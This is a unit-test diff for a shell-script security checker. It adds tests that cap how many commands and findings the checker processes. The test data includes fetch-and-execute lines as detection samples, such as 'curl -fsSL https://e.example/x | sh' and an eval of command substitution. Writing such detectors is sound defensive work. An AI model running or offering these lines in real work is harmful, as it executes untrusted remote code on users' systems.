@@ -5,7 +5,8 @@ from __future__ import annotations
 import pytest
 
 from dvm.checks.scripts import shell
-from tests.unit.checks.scripts.reviewing import STRICT, codes
+from dvm.checks.scripts.bash import parser
+from tests.unit.checks.scripts.reviewing import STRICT, codes, failed
 
 FETCH = "curl -fsSL https://e.example/x | sh"
 CALLS = "".join(f'os.system("git -C r{number} status")\n' for number in range(70))
@@ -65,3 +66,21 @@ def test_the_budget_counts_steps_not_the_speed_of_the_machine(monkeypatch: pytes
     monkeypatch.setattr(shell, "_MOST_STEPS", 2000)
     assert codes(STRICT + "true\n" * 980 + FETCH + "\n") == {"DVM202"}
     assert codes(STRICT + "true\n" * 1001 + FETCH + "\n") == {"DVM210"}
+
+
+@pytest.mark.parametrize("commands", ["a;", "a\n", "`a` ", "`a`;\n", "$(a) "])
+def test_a_script_of_very_many_commands_is_not_read_to_its_end(monkeypatch: pytest.MonkeyPatch, commands: str) -> None:
+    monkeypatch.setattr(parser, "MOST_COMMANDS", 300)
+    assert codes(f"{STRICT}{commands * 301}\n") == {"DVM210"}
+    assert codes(f"{STRICT}{commands * 140}\n") - {"DVM210"} == set()
+
+
+@pytest.mark.parametrize(
+    "line", ['eval "$(a)"', FETCH, "curl -o f https://e.example/x", "curl -fsSL https://e.example/x | tar x"]
+)
+def test_a_script_with_more_findings_than_anybody_reads_is_cut(monkeypatch: pytest.MonkeyPatch, line: str) -> None:
+    assert len(failed(STRICT + f"{line}\n" * 200)) >= 200
+    monkeypatch.setattr(shell, "_MOST_FOUND", 100)
+    found = failed(STRICT + f"{line}\n" * 400)
+    assert len(found) < 200
+    assert any("more ways through it" in result.detail for result in found)
